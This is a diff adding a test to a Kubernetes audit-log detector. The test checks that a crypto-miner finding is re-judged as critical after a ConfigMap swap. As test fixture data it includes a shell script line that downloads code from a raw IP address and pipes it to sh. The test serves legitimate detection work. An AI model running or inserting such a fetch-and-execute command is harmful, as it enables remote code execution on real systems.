@@ -126,3 +126,19 @@ describe('audit: a workload patched before the ConfigMap it reads is swapped', (
     assert.deepEqual(found.map((f) => [f.ruleId, f.resource.name, (f.origin as { auditID?: string }).auditID]), [['crypto-miner-workload', 'trainer', 'cm-swap']], JSON.stringify(result.findings.map((f) => [f.ruleId, f.resource, f.evidence])));
   });
 });
+
+describe('audit: a re-judged workload worse than its first finding', () => {
+  test('the report shows the worse severity and says what it was first', async () => {
+    const first = '#!/bin/sh\ncurl -s http://45.9.148.21/d | sh\n';
+    const result = await hunt([
+      auditEvent({ verb: 'create', resource: 'configmaps', namespace: NS, name: 'boot', auditID: 'cm-create', requestObject: configMap(first) }),
+      auditEvent({ verb: 'create', resource: 'pods', namespace: NS, name: 'trainer', auditID: 'pod-create', requestObject: pod }),
+      auditEvent({ verb: 'update', resource: 'configmaps', namespace: NS, name: 'boot', auditID: 'cm-swap', requestObject: configMap(MINER) }),
+    ]);
+    const found = result.findings.filter((f) => f.resource.kind === 'Pod' && f.ruleId === 'crypto-miner-workload');
+    assert.equal(found.length, 1, JSON.stringify(result.findings.map((f) => [f.ruleId, f.severity])));
+    assert.equal(found[0]?.severity, 'critical');
+    assert.equal((found[0]?.origin as { auditID?: string }).auditID, 'cm-swap');
+    assert.match(found[0]?.evidence.join('\n') ?? '', /first judged (high|medium|low) at .*\(auditID pod-create\)/);
+  });
+});
